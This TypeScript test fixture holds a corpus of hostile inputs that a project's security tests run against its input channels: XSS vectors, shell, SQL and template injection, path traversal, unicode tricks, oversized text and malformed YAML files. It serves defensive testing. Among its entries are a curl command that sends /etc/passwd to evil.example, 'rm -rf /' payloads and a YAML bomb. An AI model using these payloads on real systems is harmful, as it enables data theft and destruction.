/**
 * The hostile corpus: strings an attacker types into any text field, and whole files an
 * attacker (or a broken tool) puts where a content file goes. Each channel test
 * (test/security/channels.test.ts, site-xss.test.ts) runs every entry that applies to it,
 * so one table feeds issues, comments, pull requests, CMS entries, the CLI and the site.
 *
 * XSS payloads that would run report themselves three ways the browser test listens for: a
 * dialog (alert), a console message and a request to /xss-<n> on the site's own server.
 */

export interface Payload {
  name: string;
  category: 'xss' | 'injection' | 'traversal' | 'unicode' | 'size';
  text: string;
}

/** A beacon a payload fires if it runs: alert, console and a same-origin request. */
const fire = (n: number) => `alert(${n});console.log('XSS-${n}');fetch('/xss-${n}')`;
const b64 = (s: string) => Buffer.from(s).toString('base64');

export const XSS: Payload[] = [
  ['script tag', `<script>${fire(1)}</script>`],
  ['img onerror', `<img src=x onerror="${fire(2)}">`],
  ['svg onload', `<svg/onload="${fire(3)}">`],
  ['iframe srcdoc', `<iframe srcdoc="<script>${fire(4)}</script>"></iframe>`],
  ['markdown javascript link', `[点我](javascript:${fire(5)})`],
  ['markdown data link', `[下载](data:text/html;base64,${b64(`<script>${fire(6)}</script>`)})`],
  ['markdown image with javascript', `![图](javascript:${fire(7)})`],
  ['markdown image svg data', `![图](data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${fire(8)}"/>`)})`],
  ['autolink javascript', `<javascript:${fire(9)}>`],
  ['mixed-case scheme', `[x](JaVaScRiPt:${fire(10)})`],
  ['entity-encoded scheme', `[x](&#x6A;avascript:${fire(11)})`],
  ['leading-space scheme', `[x](  javascript:${fire(12)})`],
  ['reference-style link', `[点我][r]\n\n[r]: javascript:${fire(13)}`],
  ['details ontoggle', `<details open ontoggle="${fire(14)}">x</details>`],
  ['attribute breakout', `"><script>${fire(15)}</script>`],
  ['single-quote breakout', `'><img src=x onerror="${fire(16)}">`],
  ['textarea breakout', `</textarea><script>${fire(17)}</script>`],
  ['script-in-JSON breakout', `</script><script>${fire(18)}</script>`],
  ['noscript mutation', `<noscript><p title="</noscript><img src=x onerror=${fire(19).replace(/;/g, ',')}>">`],
  ['style url', `<div style="background:url(javascript:${fire(20)})">x</div>`],
  ['object data', `<object data="data:text/html;base64,${b64(`<script>${fire(21)}</script>`)}"></object>`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=javascript:${fire(22)}">`],
  ['base href', '<base href="https://evil.example/">'],
  ['form action', `<form action="javascript:${fire(23)}"><button>提交</button></form>`],
  ['link title attribute', `[x](https://example.com "onmouseover=${fire(24)}")`],
  ['math mutation', `<math><mtext><table><mglyph><style><img src=x onerror="${fire(25)}">`],
  ['template expression', `{{constructor.constructor('${fire(26)}')()}}`],
  ['html comment breakout', `--><script>${fire(27)}</script><!--`],
  ['CDATA in feed', `]]><script>${fire(28)}</script><![CDATA[`],
  ['svg use', `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${fire(29)}"/></svg>`)}#x"/></svg>`],
].map(([name, text]) => ({ name: `XSS: ${name}`, category: 'xss' as const, text: text! }));

export const INJECTION: Payload[] = [
  ['Actions expression', '${{ secrets.GITHUB_TOKEN }}${{ github.event.issue.title }}'],
  ['command substitution', '$(curl -d @/etc/passwd https://evil.example)'],
  ['backticks', '`cat /etc/passwd`'],
  ['shell separators', '; rm -rf / && echo pwned | sh'],
  ['workflow command', '::set-output name=verdict::valid\n::add-mask::x\n::error::伪造的错误'],
  ['environment file injection', 'x\nGITHUB_TOKEN=stolen\nNODE_OPTIONS=--require /tmp/x.js'],
  ['CRLF injection', '正常内容\r\nSet-Cookie: evil=1\r\n\r\n<script>x</script>'],
  ['server-side template', '{{7*7}}<%= 7*7 %>${7*7}#{7*7}'],
  ['SQL', "' OR 1=1; DROP TABLE demands; --"],
  ['YAML in a value', 'a: b\n---\n!!js/function "function(){ return process.exit(1) }"'],
  ['git ref syntax', 'refs/heads/main:../../.git/config'],
  ['prototype key as text', '__proto__'],
  ['constructor path', 'constructor.prototype.polluted'],
  ['JSON prototype', '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}'],
].map(([name, text]) => ({ name: `injection: ${name}`, category: 'injection' as const, text: text! }));

export const TRAVERSAL: Payload[] = [
  ['posix traversal', '../../../../etc/passwd'],
  ['windows traversal', '..\\..\\Windows\\System32\\config\\SAM'],
  ['absolute path', '/etc/shadow'],
  ['encoded traversal', '..%2F..%2Fcontent%2Fofficers.yml'],
  ['double-encoded traversal', '%252e%252e%252fetc%252fpasswd'],
  ['UNC path', '\\\\evil.example\\share\\x'],
  ['reserved name CON', 'CON'],
  ['reserved name with extension', 'PRN.yml'],
  ['reserved COM1', 'COM1'],
  ['trailing dot', 'report.pdf.'],
  ['git internals', '.git/config'],
  ['home directory', '~root/.ssh/authorized_keys'],
  ['NUL in a name', 'evil\u0000.yml'],
].map(([name, text]) => ({ name: `traversal: ${name}`, category: 'traversal' as const, text: text! }));

export const UNICODE: Payload[] = [
  ['right-to-left override', '厦门\u202egnp.exe\u202c科技有限公司'],
  ['bidi isolates', '\u2066XM-2026-001\u2069'],
  ['zero-width space', '厦门\u200b芯感\u200b微电子'],
  ['zero-width joiner in a name', '厦门\u200d芯感'],
  ['byte-order mark inside', '厦门\ufeff芯感'],
  ['lone surrogate', '厦门\ud800芯感'],
  ['replacement characters', '鍘﹂棬鑺\ufffd\ufffd'],
  ['Cyrillic look-alike id', 'ХМ-2026-001'],
  ['full-width id', 'ＸＭ－２０２６－００１'],
  ['line and paragraph separators', '第一行\u2028第二行\u2029第三行'],
  ['tag characters', '厦门\u{e0041}\u{e0042}科技'],
  ['combining overload', `厦${'\u0301'.repeat(300)}门`],
  ['control characters', '\u0007\u001b[31m红色\u001b[0m'],
].map(([name, text]) => ({ name: `unicode: ${name}`, category: 'unicode' as const, text: text! }));

export const SIZE: Payload[] = [
  ['300,000 characters', '长'.repeat(300_000)],
  ['ten thousand lines', Array.from({ length: 10_000 }, (_, i) => `第${i}行`).join('\n')],
  ['deep quote nesting', `${'>'.repeat(5000)} 嵌套`],
  ['deep list nesting', Array.from({ length: 2000 }, (_, i) => `${'  '.repeat(i)}- 层${i}`).join('\n')],
  ['a thousand links', Array.from({ length: 1000 }, (_, i) => `[链接${i}](https://example.com/${i})`).join(' ')],
].map(([name, text]) => ({ name: `size: ${name}`, category: 'size' as const, text: text! }));

export const PAYLOADS: Payload[] = [...XSS, ...INJECTION, ...TRAVERSAL, ...UNICODE, ...SIZE];

/** Whole files where a content file goes: what parsing must refuse without crashing. */
export interface HostileFile {
  name: string;
  bytes: Uint8Array;
}

const utf8 = (s: string) => new TextEncoder().encode(s);

export function hostileFiles(validYaml: string): HostileFile[] {
  const laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]', ...Array.from({ length: 9 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)}]`)].join('\n');
  const deep = (n: number) => `${Array.from({ length: n }, (_, i) => `${'  '.repeat(i)}k${i}:`).join('\n')} x\n`;
  return [
    { name: 'billion laughs', bytes: utf8(`${laughs}\n`) },
    { name: 'one anchor and alias', bytes: utf8(`${validYaml}x: &a 1\ny: *a\n`) },
    { name: 'merge key', bytes: utf8(`base: &b { title: x }\n<<: *b\n`) },
    { name: '__proto__ key', bytes: utf8(`${validYaml}__proto__:\n  polluted: true\n`) },
    { name: 'nested constructor.prototype', bytes: utf8(`${validYaml}issuer:\n  constructor:\n    prototype:\n      polluted: true\n`) },
    { name: 'prototype key in a list item', bytes: utf8(`${validYaml}technicalIndicators:\n  - prototype: x\n`) },
    { name: 'deep nesting (2,000 levels)', bytes: utf8(deep(2000)) },
    { name: 'deep flow nesting (100,000 brackets)', bytes: utf8(`a: ${'['.repeat(100_000)}${']'.repeat(100_000)}\n`) },
    { name: 'duplicate keys', bytes: utf8(`${validYaml}title: 第二个标题\n`) },
    { name: 'js function tag', bytes: utf8(`${validYaml}x: !!js/function "function(){ process.exit(1) }"\n`) },
    { name: 'python object tag', bytes: utf8(`x: !!python/object/apply:os.system ["rm -rf /"]\n`) },
    { name: 'invalid UTF-8', bytes: new Uint8Array([...utf8('title: '), 0xc3, 0x28, 0xa0, 0xa1, 0x0a]) },
    { name: 'GBK bytes', bytes: new Uint8Array([...utf8('title: '), 0xcf, 0xc3, 0xc3, 0xc5, 0x0a]) },
    { name: 'UTF-16 with BOM', bytes: new Uint8Array([0xff, 0xfe, ...Array.from(utf8('title: x\n')).flatMap((b) => [b, 0])]) },
    { name: 'mixed encodings (UTF-8 then Latin-1)', bytes: new Uint8Array([...utf8('title: 厦门 '), 0xe9, 0x0a]) },
    { name: 'binary noise', bytes: Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256) },
    { name: 'empty file', bytes: new Uint8Array() },
    { name: 'a list instead of a record', bytes: utf8('- a\n- b\n') },
    { name: 'a scalar instead of a record', bytes: utf8('just text\n') },
    { name: 'two documents', bytes: utf8(`${validYaml}---\nid: XM-2026-999\n`) },
    { name: 'oversized file (3 MB)', bytes: utf8(`${validYaml}background: "${'长'.repeat(1_000_000)}"\n`) },
    { name: 'tab indentation', bytes: utf8('issuer:\n\tname: x\n') },
    { name: 'NUL bytes', bytes: utf8(`${validYaml}x: "a\u0000b"\n`) },
  ];
}
